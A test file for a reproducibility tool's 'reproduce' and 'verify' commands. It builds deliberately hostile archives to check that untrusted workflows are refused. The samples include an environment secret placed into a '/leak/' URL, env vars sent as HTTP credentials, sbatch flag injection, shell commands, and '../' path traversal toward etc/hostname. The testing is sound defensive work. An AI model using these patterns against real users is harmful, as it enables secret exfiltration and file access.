// An archive from a stranger (issue 21, items 1 and 2): `repro reproduce ARCHIVE` without --trust
// applies the same trust decision as to a git URL's workflow (no environment value leaves the
// machine, no executor settings reach sbatch, no commands), each refusal at file:line:col; and no
// path the archive names leaves it (the folder it unpacks into, its workflow, the files of its lock,
// what `repro verify` opens). The archives are written here as a hostile author would: a lock that
// agrees with itself, whatever it says. A real HTTP listener on 127.0.0.1 and a fake `sbatch` on
// PATH that records its arguments show what would have left.
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { spawnSync } from 'node:child_process';
import { createHash } from 'node:crypto';
import { chmodSync, existsSync, mkdirSync, readdirSync, readFileSync, writeFileSync } from 'node:fs';
import { dirname, join } from 'node:path';
import { startServer, type TestServer } from '../data/http-server.js';
import { reproAsync } from '../support/index.js';
import { repro, tempDir } from './helpers.js';

const sha = (data: string | Buffer) => createHash('sha256').update(data).digest('hex');

interface Hostile {
  workflow: string;
  /** More files of the project (path relative to project/ → text). */
  files?: Record<string, string>;
  runId?: string;
  /** Changes to the lock after it was written (a hostile author writes what they like). */
  lock?: (lock: Record<string, any>) => void;
  record?: Record<string, unknown>;
}

/** A self-consistent archive as `repro export` lays it out, with the author's own lock. */
function hostileArchive(h: Hostile): string {
  const stage = tempDir('repro-hostile-stage-');
  const put = (rel: string, text: string) => {
    mkdirSync(dirname(join(stage, rel)), { recursive: true });
    writeFileSync(join(stage, rel), text);
  };
  put('project/wf.yaml', h.workflow);
  put('workflow/wf.yaml', h.workflow);
  for (const [rel, text] of Object.entries(h.files ?? {})) put(`project/${rel}`, text);
  const id = h.runId ?? '20260101-000000-0001';
  put('run.json', JSON.stringify({ runId: id, status: 'succeeded', workflow: { name: 'wf', file: '/nowhere/wf.yaml', sha256: sha(h.workflow) }, steps: [], ...h.record }));
  const files: Record<string, string> = {};
  const walk = (rel: string): void => {
    for (const e of readdirSync(join(stage, rel), { withFileTypes: true })) {
      const r = rel ? `${rel}/${e.name}` : e.name;
      if (e.isDirectory()) walk(r);
      else files[r] = sha(readFileSync(join(stage, r)));
    }
  };
  walk('');
  const lock: Record<string, any> = {
    format: 'repro-lock/1',
    createdAt: new Date().toISOString(),
    run: { id, status: 'succeeded', workflow: 'wf', git: null },
    workflow: { path: 'workflow/wf.yaml', sha256: sha(h.workflow) },
    project: { workflow: 'wf.yaml', profile: null, set: [], options: [], outside: [] },
    files,
    steps: {},
  };
  h.lock?.(lock);
  writeFileSync(join(stage, 'repro.lock.json'), JSON.stringify(lock));
  const archive = join(tempDir('repro-hostile-'), 'hostile.repro.tar.gz');
  const r = spawnSync('tar', ['-czf', archive, '-C', stage, ...readdirSync(stage)], { encoding: 'utf8' });
  if (r.status !== 0) throw new Error(r.stderr);
  return archive;
}

let server: TestServer;
beforeAll(async () => {
  server = await startServer({ '/x': { body: Buffer.from('x') } });
});
afterAll(async () => server?.close());

const SECRET = 'archive-s3cr3t-value';

describe('the workflow of an archive, without --trust', { timeout: 120_000 }, () => {
  it('may not put an environment value into a URL: refused at its line, no request, no folder', async () => {
    const archive = hostileArchive({
      workflow: `name: wf
params:
  token:
    type: string
    env: ARCHIVE_SECRET
steps:
  get:
    uses: fetch
    with:
      sources: ["${server.url}/leak/\${{ params.token }}"]
      sha256: ${'a'.repeat(64)}
`,
    });
    const work = tempDir('repro-arch-work-');
    const before = server.requests.length;
    const r = await reproAsync(['reproduce', archive, '--dir', 'again'], { cwd: work, env: { ARCHIVE_SECRET: SECRET, REPRO_CACHE: join(work, '.cache') } });
    expect(r.code, r.out).toBe(2);
    expect(r.out).toMatch(/wf\.yaml:5:10: error: this workflow comes from an archive: it reads your environment variable ARCHIVE_SECRET into param 'token', which needs --trust/);
    expect(r.out).toMatch(/--trust would allow exactly this/);
    expect(r.out).not.toContain(SECRET);
    expect(server.requests.slice(before)).toEqual([]);
    expect(existsSync(join(work, 'again'))).toBe(false);

    // With --trust it does what it says: the value goes into the URL (that is what trust means).
    const trusted = await reproAsync(['reproduce', archive, '--dir', 'trusted', '--trust'], { cwd: work, env: { ARCHIVE_SECRET: SECRET, REPRO_CACHE: join(work, '.cache') } });
    expect(trusted.code, trusted.out).not.toBe(2);
    expect(server.requests.slice(before).map((q) => q.path)).toContain(`/leak/${SECRET}`);
  });

  it('may not send environment variables as basic-auth credentials', async () => {
    const fetchX = (extra = '') => `name: wf
steps:
  get:
    uses: fetch
    with:
      sources: ["${server.url}/x"]
      sha256: ${sha('x')}
${extra}`;
    const archive = hostileArchive({ workflow: fetchX('      auth: {user: ARCHIVE_USER, password: ARCHIVE_SECRET}\n') });
    const work = tempDir('repro-arch-work-');
    const before = server.requests.length;
    const r = await reproAsync(['reproduce', archive, '--dir', 'again'], { cwd: work, env: { ARCHIVE_SECRET: SECRET, ARCHIVE_USER: 'me' } });
    expect(r.code, r.out).toBe(2);
    expect(r.out).toMatch(/wf\.yaml:8:13: error: this workflow comes from an archive: it sends your environment variables ARCHIVE_USER and ARCHIVE_SECRET as HTTP credentials \(step 'get'\)/);
    expect(server.requests.slice(before)).toEqual([]);

    // The same credentials added by the archive's recorded `--set` are the archive's too.
    const viaSet = hostileArchive({
      workflow: fetchX(),
      lock: (l) => (l.project.set = ['steps.get.with.auth={user: ARCHIVE_USER, password: ARCHIVE_SECRET}']),
    });
    const s = await reproAsync(['reproduce', viaSet, '--dir', 'set'], { cwd: work, env: { ARCHIVE_SECRET: SECRET, ARCHIVE_USER: 'me' } });
    expect(s.code, s.out).toBe(2);
    expect(s.out).toMatch(/it sends your environment variables ARCHIVE_USER and ARCHIVE_SECRET as HTTP credentials/);
    expect(server.requests.slice(before)).toEqual([]);
  });

  it('may not hand its executor settings to sbatch (a fake sbatch on PATH records every call)', async () => {
    const tools = tempDir('repro-fake-slurm-');
    const calls = join(tools, 'calls.txt');
    const tool = (name: string, body: string) => {
      writeFileSync(join(tools, name), `#!/bin/sh\necho "${name} $*" >> "${calls}"\n${body}\n`);
      chmodSync(join(tools, name), 0o755);
    };
    tool('sbatch', 'case "$1" in --version) echo "slurm 23.02";; *) echo "sbatch: error: Batch job submission failed: test" >&2; exit 1;; esac');
    tool('sinfo', 'echo "evil*|up"');
    tool('scontrol', 'echo "JobCompType = jobcomp/none"');
    tool('squeue', 'true');
    const archive = hostileArchive({
      workflow: `name: wf
executor:
  type: slurm
  partition: evil
  flags: [--output=/tmp/owned-by-archive]
steps:
  get:
    uses: fetch
    with:
      sources: [data.txt]
      sha256: ${sha('data\n')}
`,
      files: { 'data.txt': 'data\n' },
    });
    const work = tempDir('repro-arch-work-');
    const r = await reproAsync(['reproduce', archive, '--dir', 'again'], { cwd: work, env: { PATH: `${tools}:${process.env.PATH}` } });
    expect(r.code, r.out).toBe(2);
    expect(r.out).toMatch(/wf\.yaml:3:9: error: this workflow comes from an archive: it submits its steps to your Slurm cluster/);
    expect(r.out).toMatch(/wf\.yaml:4:3: error: .*passes its executor setting 'partition' to sbatch/);
    expect(r.out).toMatch(/wf\.yaml:5:3: error: .*passes its executor setting 'flags' to sbatch/);
    expect(existsSync(calls) ? readFileSync(calls, 'utf8') : '').toBe('');
  });

  it('may not run commands: refused through the plan, at the step, before anything runs', async () => {
    const archive = hostileArchive({
      workflow: `name: wf
steps:
  shell:
    uses: run
    with: {command: "echo ran > o.txt"}
    outputs: {o: o.txt}
`,
    });
    const work = tempDir('repro-arch-work-');
    const r = repro(work, ['reproduce', archive, '--dir', 'again']);
    expect(r.code, r.out).toBe(2);
    // Each refused place, and the summary, name the workflow where it still is (inside the archive), not the removed folder.
    expect(r.stderr).toContain(`${archive}: project/wf.yaml:4:11: error: this workflow comes from an archive: it runs a command (step 'shell'), which needs --trust`);
    expect(r.stderr).not.toMatch(/again[/\\]wf\.yaml/);
    expect(r.stderr).toContain(`repro: ${archive}: project/wf.yaml: 1 place(s) above need --trust; nothing ran`);
    expect(existsSync(join(work, 'again'))).toBe(false);
  });

  it('a refusal beside another error: the summary names the workflow in the archive too', async () => {
    const archive = hostileArchive({
      workflow: `name: wf
steps:
  shell:
    uses: run
    with: {command: "echo ran > o.txt", bogus: 1}
    outputs: {o: o.txt}
`,
    });
    const work = tempDir('repro-arch-work-');
    const r = repro(work, ['reproduce', archive, '--dir', 'again']);
    expect(r.code, r.out).toBe(2);
    expect(r.stderr).toContain(`${archive}: project/wf.yaml:4:11: error: this workflow comes from an archive: it runs a command`);
    expect(r.stderr).toContain(`repro: ${archive}: project/wf.yaml: invalid workflow, nothing ran`);
    expect(r.stderr).not.toMatch(/again[/\\]wf\.yaml/);
    expect(existsSync(join(work, 'again'))).toBe(false);
  });
});

const PLAIN = `name: wf
steps:
  get:
    uses: fetch
    with:
      sources: [data.txt]
      sha256: ${sha('data\n')}
`;

describe('paths an archive names stay inside it', { timeout: 120_000 }, () => {
  it('the default folder is a sanitised name under the current folder, whatever the run id says', () => {
    const archive = hostileArchive({ workflow: PLAIN, files: { 'data.txt': 'data\n' }, runId: '/../../../elsewhere' });
    const top = tempDir('repro-arch-top-');
    const work = join(top, 'a', 'b');
    mkdirSync(work, { recursive: true });
    const r = repro(work, ['reproduce', archive]);
    expect(r.code, r.out).toBe(0);
    expect(readdirSync(top)).toEqual(['a']);
    expect(readdirSync(join(top, 'a'))).toEqual(['b']);
    const made = readdirSync(work).filter((f) => f !== '.cache');
    expect(made).toHaveLength(1);
    expect(made[0]).toMatch(/^wf-[A-Za-z0-9_.-]*elsewhere$/);
    expect(made[0]).not.toMatch(/\.\./);
    expect(existsSync(join(work, made[0]!, 'results', 'wf', 'latest', 'run.json'))).toBe(true);
  });

  it('a project workflow outside project/ is refused (exit 5) and nothing runs', () => {
    const top = tempDir('repro-arch-top-');
    // What a lock naming ../../evil.yaml would reach from --dir a/b.
    writeFileSync(join(top, 'evil.yaml'), `name: evil
steps:
  get:
    uses: fetch
    with:
      sources: [planted.txt]
      sha256: ${sha('planted\n')}
`);
    writeFileSync(join(top, 'planted.txt'), 'planted\n');
    const archive = hostileArchive({ workflow: PLAIN, files: { 'data.txt': 'data\n' }, lock: (l) => (l.project.workflow = '../../evil.yaml') });
    const r = repro(top, ['reproduce', archive, '--dir', 'a/b']);
    expect(r.code, r.out).toBe(5);
    expect(r.stderr).toMatch(/outside: \.\.\/\.\.\/evil\.yaml {2}\(the project's workflow leaves the archive; not opened\)/);
    expect(existsSync(join(top, 'results'))).toBe(false);
    expect(existsSync(join(top, 'a'))).toBe(false);
  });

  it("the archive's workflow reads no local file outside its unpacked project without --trust", () => {
    const target = join(tempDir('repro-arch-outside-'), 'private.txt');
    writeFileSync(target, 'private\n');
    const archive = hostileArchive({
      workflow: `name: wf
steps:
  get:
    uses: fetch
    with:
      sources: [${JSON.stringify(target)}]
      sha256: ${sha('private\n')}
`,
    });
    const work = tempDir('repro-arch-work-');
    const r = repro(work, ['reproduce', archive, '--dir', 'again']);
    expect(r.code, r.out).toBe(1);
    expect(r.out).toMatch(/input .*private\.txt lies outside the archive's project: a workflow from an archive reads only its own files without --trust/);
    const record = JSON.parse(readFileSync(join(work, 'again', 'results', 'wf', 'latest', 'run.json'), 'utf8'));
    expect(record.steps[0].status).toBe('failed');
    expect(record.steps[0].outputs ?? {}).toEqual({});
  });

  it('--fresh-seeds re-plans under the same trust decision: still no local file outside the project', () => {
    const target = join(tempDir('repro-arch-outside-'), 'private.txt');
    writeFileSync(target, 'private\n');
    const archive = hostileArchive({
      workflow: `name: wf
params:
  seeds: {type: array, default: [1]}
steps:
  get:
    uses: fetch
    matrix:
      variant: [a, b]
      seed: '\${{ params.seeds }}'
    with:
      sources: [${JSON.stringify(target)}]
      sha256: ${sha('private\n')}
  compare:
    uses: compare
    with:
      results: \${{ steps.get.outputs.path }}
      claims:
        - id: C1
          text: a beats b
          metric: accuracy
          relation: {type: better, a: a, b: b}
          smallest_effect: 0.01
`,
    });
    const work = tempDir('repro-arch-work-');
    const r = repro(work, ['reproduce', archive, '--dir', 'again', '--fresh-seeds', '5']);
    expect(r.out).toMatch(/input .*private\.txt lies outside the archive's project: a workflow from an archive reads only its own files without --trust/);
    const record = JSON.parse(readFileSync(join(work, 'again', 'results', 'wf', 'latest', 'run.json'), 'utf8'));
    const get = record.steps.find((s: { stepId?: string; id: string }) => s.id.startsWith('get'));
    expect(get.status).toBe('failed');
    expect(get.outputs ?? {}).toEqual({});
  });

  it('verify never opens a path outside the archive: not the workflow path, not an output path', () => {
    const outsideDir = tempDir('repro-arch-outside-');
    const target = join(outsideDir, 'private.txt');
    writeFileSync(target, 'a private file of the receiver\n');
    const up = '../'.repeat(12);
    const archive = hostileArchive({
      workflow: PLAIN,
      files: { 'data.txt': 'data\n' },
      record: { steps: [{ id: 'get', outputs: { path: { type: 'file', sha256: 'b'.repeat(64) } }, fingerprintComponents: { inputs: { [`${up}${target.slice(1)}`]: 'c'.repeat(64) } } }] },
      lock: (l) => {
        l.workflow.path = `${up}${target.slice(1)}`;
        l.steps = { get: { fingerprint: 'f', status: 'succeeded', outputs: { path: { type: 'file', sha256: 'b'.repeat(64), path: `${up}etc/hostname` } } } };
      },
    });
    const work = tempDir('repro-arch-work-');
    const r = repro(work, ['verify', archive]);
    expect(r.code, r.out).toBe(5);
    expect(r.stdout).toMatch(/outside: (\.\.\/)+.*private\.txt {2}\(the lock's workflow leaves the archive; not opened\)/);
    expect(r.stdout).toMatch(/outside: (\.\.\/)+etc\/hostname {2}\(the shipped output get → path leaves the archive; not opened\)/);
    expect(r.stdout).toMatch(/outside: project input (\.\.\/)+.*private\.txt/);
    // Nothing of the file's hash is printed (main printed the first 12 hex digits of it).
    expect(r.out).not.toContain(sha(readFileSync(target)).slice(0, 12));
    expect(r.out).not.toMatch(/corrupted|mismatch: (\.\.\/)+/);
  });
});
